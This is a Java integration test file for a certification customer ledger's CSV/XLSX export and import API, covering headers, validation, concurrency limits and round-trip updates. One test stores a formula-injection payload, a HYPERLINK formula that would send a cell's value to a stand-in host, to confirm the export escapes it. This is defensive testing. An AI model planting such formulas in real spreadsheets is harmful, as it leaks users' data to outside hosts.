package com.certcare.customer.exchange;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.is;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;

import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import com.certcare.customer.TestData;
import com.certcare.customer.search.CustomerFilter;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;

@QuarkusTest
@TestSecurity(user = "mei", roles = "market")
class LedgerExchangeTest {

    @jakarta.inject.Inject
    io.agroal.api.AgroalDataSource dataSource;

    private static final String HEADER = "合同编号,证书编号,企业名称,统一社会信用代码,认证领域,状态,申请受理日期,认证决定日期,"
            + "初审费用（元）,监督费用（元）,发证日期,到期日期,省份,城市,联系人,联系电话,专业代码";

    private long customerWithCertificate(String tag) {
        long id = given().contentType(ContentType.JSON).body(TestData.customer(tag + "导出测试有限公司"))
                .when().post("/api/customers").then().statusCode(201).extract().jsonPath().getLong("id");
        given().contentType(ContentType.JSON)
                .body(TestData.certification("QMS").valid("EXP-" + tag, LocalDate.of(2026, 3, 15))
                        .with("contractNo", "HT-" + tag).with("initialAuditFee", "12000.50"))
                .when().post("/api/customers/" + id + "/certifications").then().statusCode(201);
        return id;
    }

    @Test
    void exportsTheFilteredLedgerAsCsvWithBomAndChineseHeaders() {
        String tag = TestData.tag();
        customerWithCertificate(tag);
        byte[] body = given().queryParam("q", tag).queryParam("format", "csv")
                .when().get("/api/customers/export").then().statusCode(200)
                .header("Content-Disposition", containsString(".csv"))
                .contentType(containsString("text/csv"))
                .extract().asByteArray();
        assertEquals((byte) 0xEF, body[0], new String(body, StandardCharsets.UTF_8));
        assertEquals((byte) 0xBB, body[1]);
        assertEquals((byte) 0xBF, body[2]);
        List<String> lines = new String(body, 3, body.length - 3, StandardCharsets.UTF_8).lines().toList();
        assertEquals(2, lines.size(), "header and one row");
        assertTrue(lines.get(0).startsWith("合同编号,证书编号,企业名称,统一社会信用代码,认证领域,状态"), lines.get(0));
        String row = lines.get(1);
        assertTrue(row.startsWith("HT-" + tag + ",EXP-" + tag + "," + tag + "导出测试有限公司,"), row);
        assertTrue(row.contains(",QMS,有效,"), row);
        assertTrue(row.contains(",12000.50,6000.00,"), row);
        assertTrue(row.contains(",2027-03-14;2028-03-14,"), row);
        assertTrue(row.contains(",浙江省,杭州市,"), row);
        assertTrue(row.contains(",王芳,13800138000,"), row);
    }

    @Test
    void aFormulaInACellIsExportedAsTextNotAsAFormula() {
        String tag = TestData.tag();
        String name = "=HYPERLINK(\"http://x.example/?\"&D2,\"详情\")" + tag;
        given().contentType(ContentType.JSON).body(TestData.customer(name))
                .when().post("/api/customers").then().statusCode(201);
        String csv = new String(given().queryParam("q", tag).queryParam("format", "csv")
                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&D2,\"\"详情\"\")" + tag + "\","), csv);
    }

    @Test
    void xlsxHasFeesAsNumbersAndDatesAsDatesAndImportsBackWithoutErrors() throws Exception {
        String tag = TestData.tag();
        customerWithCertificate(tag);
        byte[] body = given().queryParam("q", tag).queryParam("format", "xlsx")
                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(body))) {
            XSSFSheet sheet = book.getSheetAt(0);
            int fee = LedgerColumn.INITIAL_AUDIT_FEE.ordinal();
            int expires = LedgerColumn.EXPIRES_ON.ordinal();
            int phone = LedgerColumn.CONTACT_PHONE.ordinal();
            assertEquals(org.apache.poi.ss.usermodel.CellType.NUMERIC, sheet.getRow(1).getCell(fee).getCellType());
            assertEquals(12000.50, sheet.getRow(1).getCell(fee).getNumericCellValue(), 0.001);
            assertEquals("0.00", sheet.getRow(1).getCell(fee).getCellStyle().getDataFormatString());
            assertTrue(org.apache.poi.ss.usermodel.DateUtil.isCellDateFormatted(sheet.getRow(1).getCell(expires)));
            assertEquals(LocalDate.of(2029, 3, 14), sheet.getRow(1).getCell(expires).getLocalDateTimeCellValue().toLocalDate());
            assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, sheet.getRow(1).getCell(phone).getCellType());
        }
        given().contentType(ExchangeResource.XLSX).body(body).queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors", hasSize(0));
    }

    @jakarta.inject.Inject
    LedgerExport export;

    @Test
    void exportsBeyondTheCapAre429WhileTheListStillAnswers() throws Exception {
        String tag = TestData.tag();
        customerWithCertificate(tag);
        // the exports allowed at once (certcare.export.max-concurrent, 2) are running: slow downloads, say
        LedgerExport.Stream first = export.open(CustomerFilter.Criteria.none(), LedgerExport.Format.CSV, Locale.ROOT);
        LedgerExport.Stream second = export.open(CustomerFilter.Criteria.none(), LedgerExport.Format.CSV, Locale.ROOT);
        try {
            given().queryParam("q", tag).queryParam("format", "csv").header("Accept-Language", "en")
                    .when().get("/api/customers/export").then().statusCode(429)
                    .contentType("application/problem+json")
                    .header("Retry-After", "10")
                    .body("title", is("Exports busy"));
            given().queryParam("q", tag).when().get("/api/customers").then().statusCode(200).body("total", is(1));
        } finally {
            first.close();
            second.close();
            second.close(); // closing twice frees one place only
        }
        for (int i = 0; i < 3; i++) { // places are given back after each export
            given().queryParam("q", tag).queryParam("format", "csv")
                    .when().get("/api/customers/export").then().statusCode(200);
        }
    }

    @Test
    void exportsXlsxWithEnglishHeadersWhenAsked() throws Exception {
        String tag = TestData.tag();
        customerWithCertificate(tag);
        byte[] body = given().queryParam("q", tag).queryParam("format", "xlsx").header("Accept-Language", "en")
                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(body))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertEquals("Contract No.", sheet.getRow(0).getCell(0).getStringCellValue());
            assertEquals("EXP-" + tag, sheet.getRow(1).getCell(1).getStringCellValue());
            assertEquals("Valid", sheet.getRow(1).getCell(5).getStringCellValue());
            assertEquals(1, sheet.getLastRowNum());
        }
    }

    /** A fresh code with its check character changed (a fixed one may be registered, with a reason, by another test). */
    private static String wrongCheckDigit(String code) {
        char last = code.charAt(17);
        return code.substring(0, 17) + (last == '0' ? '1' : '0');
    }

    @Test
    void aDryRunNamesEveryBadCellByLineAndWritesNothing() {
        String tag = TestData.tag();
        String good = TestData.creditCode();
        String csv = "\uFEFF" + HEADER + "\n"
                + "HT-1," + "," + tag + "好公司," + good + ",QMS,申请中,2026-01-10,,12000.00,6000.00,,,浙江省,杭州市,王芳,13800138000,33.02.01\n"
                + "HT-2,," + tag + "坏公司," + wrongCheckDigit(TestData.creditCode()) + ",QMS,有效,2026-01-10,,1.234,,,,火星,杭州市,李四,12345,33.2.1\n"
                + "HT-3,," + tag + "好公司," + good + ",QMS,,2026-01-11,,abc,,,,浙江,,,,\n";
        JsonPath report = given().contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("dryRun", is(true)).body("committed", is(false)).body("rows", is(3))
                .extract().jsonPath();
        List<Integer> lines = report.getList("errors.line", Integer.class);
        List<String> columns = report.getList("errors.column");
        assertTrue(lines.stream().allMatch(l -> l == 3 || l == 4), lines.toString());
        assertTrue(columns.containsAll(List.of("统一社会信用代码", "省份", "联系电话", "专业代码", "初审费用（元）", "证书编号")),
                columns.toString());
        assertTrue(report.getList("errors.findAll { it.line == 4 }.column", String.class)
                .containsAll(List.of("认证领域", "初审费用（元）")), report.prettify());
        given().queryParam("q", tag).when().get("/api/customers").then().body("total", is(0));
    }

    @Test
    void aCommitWithABadRowWritesNothingAndAGoodFileIsWrittenWhole() {
        String tag = TestData.tag();
        String a = TestData.creditCode();
        String b = TestData.creditCode();
        String goodRows = "HT-A-" + tag + ",ZS-A-" + tag + "," + tag + "甲公司," + a
                + ",QMS,有效,2026-01-10,2026-03-15,12000.00,6000.00,2026-03-15,2029-03-14,330000,杭州市,王芳,13800138000,33.02.01\n"
                + "HT-B-" + tag + ",," + tag + "甲公司," + a + ",EMS,,2026-02-10,,8000.00,,,,330000,杭州市,王芳,13800138000,33.02.01\n"
                + "HT-C-" + tag + ",," + tag + "乙公司," + b + ",OHSMS,已签合同,2026-02-11,,5000,,,,江苏省,南京市,赵六,025-84561234,18.01.01\n";
        String badRow = "HT-D-" + tag + ",," + tag + "丙公司," + TestData.creditCode() + ",XYZ,,,,,,,,浙江省,,,,\n";

        given().contentType("text/csv").body((HEADER + "\n" + goodRows + badRow).getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(400)
                .contentType("application/problem+json")
                .body("code", equalTo("import-rejected"))
                .body("errors.field", hasItem("line 5: 认证领域"));
        given().queryParam("q", tag).when().get("/api/customers").then().body("total", is(0));

        given().contentType("text/csv").body((HEADER + "\n" + goodRows).getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("committed", is(true)).body("newCustomers", is(2)).body("certifications", is(3));
        given().queryParam("q", tag).queryParam("sort", "name").when().get("/api/customers").then()
                .body("total", is(2))
                .body("items.find { it.creditCode == '" + a + "' }.certifications.size()", is(2))
                .body("items.find { it.creditCode == '" + a + "' }.certifications.find { it.scheme == 'QMS' }.plannedSurveillanceDates",
                        equalTo(List.of("2027-03-14", "2028-03-14")))
                .body("items.find { it.creditCode == '" + b + "' }.provinceCode", equalTo("320000"))
                .body("items.find { it.creditCode == '" + b + "' }.certifications[0].status", equalTo("CONTRACTED"));

        // imported records are found by the status and scheme filters too
        given().queryParam("q", tag).queryParam("status", "VALID").queryParam("scheme", "QMS")
                .when().get("/api/customers").then().body("total", is(1)).body("items[0].creditCode", equalTo(a));
        given().queryParam("q", tag).queryParam("status", "CONTRACTED")
                .when().get("/api/customers").then().body("total", is(1)).body("items[0].creditCode", equalTo(b));
        given().queryParam("q", tag).queryParam("scheme", "EMS")
                .when().get("/api/customers").then().body("total", is(1));
        // and sorted by the expiry of their live certificate (b has none: last)
        given().queryParam("q", tag).queryParam("sort", "expiresOn")
                .when().get("/api/customers").then().body("items.creditCode", contains(a, b));

        // the same file again: the live records are in the registry now, matched, and nothing changes
        given().contentType("text/csv").body((HEADER + "\n" + goodRows).getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors", hasSize(0)).body("newCustomers", is(0)).body("updatedCustomers", is(0))
                .body("unchangedCustomers", is(2)).body("unchangedCertifications", is(3));
        given().queryParam("q", tag).when().get("/api/customers").then()
                .body("total", is(2))
                .body("items.find { it.creditCode == '" + a + "' }.certifications.size()", is(2));
        // but another customer's certificate number is still taken
        String c = TestData.creditCode();
        given().contentType("text/csv").body((HEADER + "\nHT-E-" + tag + ",ZS-A-" + tag + "," + tag + "丁公司," + c
                + ",QMS,有效,2026-01-10,2026-03-15,12000.00,6000.00,2026-03-15,2029-03-14,330000,杭州市,王芳,13800138000,33.02.01\n")
                .getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors.column", hasItem("证书编号"));
    }

    @Test
    void anExportedLedgerCorrectedAndImportedBackUpdatesTheRecordsInPlace() {
        String tag = TestData.tag();
        long id = customerWithCertificate(tag);
        String exported = new String(given().queryParam("q", tag).queryParam("format", "csv")
                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
        long recordId = given().when().get("/api/customers/" + id).then().statusCode(200)
                .extract().jsonPath().getLong("certifications[0].id");
        String corrected = exported.replace(",12000.50,", ",13800.00,");

        given().contentType("text/csv").body(corrected.getBytes(StandardCharsets.UTF_8)).queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors", hasSize(0)).body("newCustomers", is(0)).body("updatedCustomers", is(0))
                .body("unchangedCustomers", is(1)).body("updatedCertifications", is(1)).body("certifications", is(1));
        given().contentType("text/csv").body(corrected.getBytes(StandardCharsets.UTF_8)).queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(200).body("committed", is(true));

        given().when().get("/api/customers/" + id).then().statusCode(200)
                .body("certifications", hasSize(1))
                .body("certifications[0].id", is((int) recordId))
                .body("certifications[0].initialAuditFee", is("13800.00"))
                .body("certifications[0].status", is("VALID"));
        given().when().get("/api/customers/" + id + "/history").then().statusCode(200)
                .body("items.find { it.field == 'initialAuditFee' }.oldValue", is("12000.50"))
                .body("items.find { it.field == 'initialAuditFee' }.newValue", is("13800.00"));

        // a row that would change the status is refused, naming the registered record and its status
        String suspended = corrected.replace(",QMS,有效,", ",QMS,暂停,");
        given().contentType("text/csv").body(suspended.getBytes(StandardCharsets.UTF_8)).queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors", hasSize(1)).body("errors[0].line", is(2)).body("errors[0].column", is("状态"))
                .body("errors[0].message", containsString("（编号 " + recordId + "）状态为“有效”"));
    }

    @Test
    void eachRowCarriesItsRecordsCodesAndTheGradeAndAnEditedCodeGoesBackToThatRecord() throws Exception {
        String tag = TestData.tag();
        long id = given().contentType(ContentType.JSON).body(TestData.customer(tag + "专业代码导出有限公司"))
                .when().post("/api/customers").then().statusCode(201).extract().jsonPath().getLong("id");
        given().contentType(ContentType.JSON).body(TestData.certification("QMS").valid("QC-" + tag, LocalDate.of(2026, 3, 15))
                .with("professionalCodes", List.of("19.05.01"))).when().post("/api/customers/" + id + "/certifications")
                .then().statusCode(201);
        given().contentType(ContentType.JSON).body(TestData.certification("EMS").valid("EC-" + tag, LocalDate.of(2026, 4, 1))
                .with("professionalCodes", List.of("29.01.01"))).when().post("/api/customers/" + id + "/certifications")
                .then().statusCode(201);
        try (java.sql.Connection c = dataSource.getConnection();
                java.sql.PreparedStatement grade = c.prepareStatement("update client set grade = 'B' where id = ?")) {
            grade.setLong(1, id); // the grade grading keeps on the customer row
            grade.executeUpdate();
        }
        String exported = new String(given().queryParam("q", tag).queryParam("format", "csv")
                .when().get("/api/customers/export").then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8)
                .substring(1);
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.EXCEL.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(exported)).getRecords();
        assertEquals(2, rows.size(), exported);
        assertEquals(List.of("EMS", "QMS"), rows.stream().map(r -> r.get("认证领域")).toList());
        assertEquals("29.01.01", rows.get(0).get("专业代码"), "the EMS record's own codes, not the customer's list");
        assertEquals("19.05.01", rows.get(1).get("专业代码"));
        assertEquals("B（良）", rows.get(0).get("等级"), "the grade as the body labels it");

        // the export imported back as it is: nothing changes, the grade column is listed as not read
        given().contentType("text/csv").body(exported.getBytes(StandardCharsets.UTF_8)).queryParam("dryRun", true)
                .when().post("/api/customers/import").then().statusCode(200).body("errors", hasSize(0))
                .body("unchangedCustomers", is(1)).body("unchangedCertifications", is(2))
                .body("ignoredColumns", contains("等级"));

        // a code added on the EMS row goes to that record alone, and joins the customer's list
        String edited = exported.replace(",29.01.01,", ",29.01.01;33.02.01,").replace(",B（良）,", ",A（优）,");
        given().contentType("text/csv").body(edited.getBytes(StandardCharsets.UTF_8)).queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(200).body("committed", is(true))
                .body("errors", hasSize(0)).body("updatedCertifications", is(1)).body("unchangedCertifications", is(1));
        JsonPath after = given().when().get("/api/customers/" + id).then().statusCode(200).extract().jsonPath();
        assertEquals(List.of("19.05.01"), after.getList("certifications.find { it.scheme == 'QMS' }.professionalCodes"));
        assertEquals(List.of("29.01.01", "33.02.01"),
                after.getList("certifications.find { it.scheme == 'EMS' }.professionalCodes"));
        assertTrue(after.getList("professionalCodes").containsAll(List.of("19.05.01", "29.01.01", "33.02.01")),
                after.prettify());
        try (java.sql.Connection c = dataSource.getConnection();
                java.sql.PreparedStatement grade = c.prepareStatement("select grade from client where id = ?")) {
            grade.setLong(1, id);
            java.sql.ResultSet r = grade.executeQuery();
            r.next();
            assertEquals("B", r.getString(1), "the file's grade cell is not read");
        }

        // a row without a record adds its codes to the customer's list and removes none
        String code = after.getString("creditCode");
        given().contentType("text/csv").body(("统一社会信用代码,专业代码\n" + code + ",19.01.01\n").getBytes(StandardCharsets.UTF_8))
                .queryParam("dryRun", false).when().post("/api/customers/import").then().statusCode(200)
                .body("errors", hasSize(0)).body("updatedCustomers", is(1));
        assertTrue(given().when().get("/api/customers/" + id).then().extract().jsonPath().getList("professionalCodes")
                .containsAll(List.of("19.01.01", "19.05.01", "29.01.01", "33.02.01")));
    }

    @Test
    void importsAnXlsxFile() throws Exception {
        String tag = TestData.tag();
        String code = TestData.creditCode();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            XSSFSheet sheet = book.createSheet("台账");
            String[] header = { "企业名称", "统一社会信用代码", "省份", "认证领域", "状态", "合同编号" };
            String[] row = { tag + "表格公司", code, "北京市", "ISMS", "申请中", "HT-X-" + tag };
            for (int i = 0; i < header.length; i++) {
                sheet.createRow(0);
            }
            var h = sheet.getRow(0);
            var r = sheet.createRow(1);
            for (int i = 0; i < header.length; i++) {
                h.createCell(i).setCellValue(header[i]);
                r.createCell(i).setCellValue(row[i]);
            }
            book.write(out);
        }
        given().contentType(ExchangeResource.XLSX).body(out.toByteArray()).queryParam("dryRun", false)
                .when().post("/api/customers/import").then().statusCode(200)
                .body("committed", is(true)).body("newCustomers", is(1)).body("certifications", is(1));
        given().queryParam("q", code).when().get("/api/customers").then()
                .body("items[0].provinceCode", equalTo("110000"))
                .body("items[0].certifications[0].scheme", equalTo("ISMS"));
    }

    @Test
    @TestSecurity(user = "zhao", roles = "auditor")
    void auditorsExportButDoNotImport() {
        given().queryParam("q", "nothing-" + TestData.tag()).when().get("/api/customers/export").then().statusCode(200);
        given().contentType("text/csv").body(HEADER.getBytes(StandardCharsets.UTF_8))
                .when().post("/api/customers/import").then().statusCode(403);
    }

    @Test
    void refusesAFileWithoutTheRequiredColumns() {
        given().contentType("text/csv").body("合同编号,备注,杂项\nHT-1,x,y\n".getBytes(StandardCharsets.UTF_8))
                .when().post("/api/customers/import").then().statusCode(200)
                .body("errors.column", contains("统一社会信用代码"))
                .body("ignoredColumns", contains("杂项"));
    }
}
